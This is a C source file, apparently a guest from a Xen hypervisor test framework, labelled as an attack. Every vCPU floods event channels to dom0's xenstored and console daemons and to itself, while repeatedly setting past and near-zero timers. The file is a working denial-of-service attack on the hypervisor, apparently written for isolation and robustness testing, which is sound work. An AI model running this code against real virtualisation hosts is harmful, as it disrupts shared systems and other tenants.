/* SPDX-License-Identifier: MIT */
/*
 * Attack: every vCPU sends events without an end, to dom0's xenstored and consoled and to this domain itself, while its
 * timers are set to times that have passed and to the shortest period that there is.
 */
#include "guest/guest.h"

static evtchn_port_t own[2];

static void flood(void *argument)
{
    unsigned int id = vcpu_current()->id;
    struct vcpu_set_periodic_timer shortest = {.period_ns = TIME_MS}, too_short = {.period_ns = 1};
    struct vcpu_set_singleshot_timer past = {.timeout_abs_ns = 1};

    (void)argument;
    event_disable();
    hypercall_vcpu_op(VCPUOP_set_periodic_timer, id, HARG(&shortest));
    for (;;) {
        event_send(guest_start_info->console.domU.evtchn);
        event_send(guest_start_info->store_evtchn);
        event_send(own[0]);
        event_send(own[1]);
        hypercall_vcpu_op(VCPUOP_set_singleshot_timer, id, HARG(&past));
        hypercall_vcpu_op(VCPUOP_set_periodic_timer, id, HARG(&too_short));
    }
}

int guest_main(void)
{
    int first = event_alloc_unbound(DOMID_SELF);

    own[0] = (evtchn_port_t)first;
    own[1] = (evtchn_port_t)event_bind_interdomain(event_own_domain(), own[0]);
    printf("FLOOD runs\n");
    for (unsigned int id = 1; id < vcpu_count(); id++) {
        vcpu_start(id, flood, NULL);
    }
    flood(NULL);
    return 0;
}
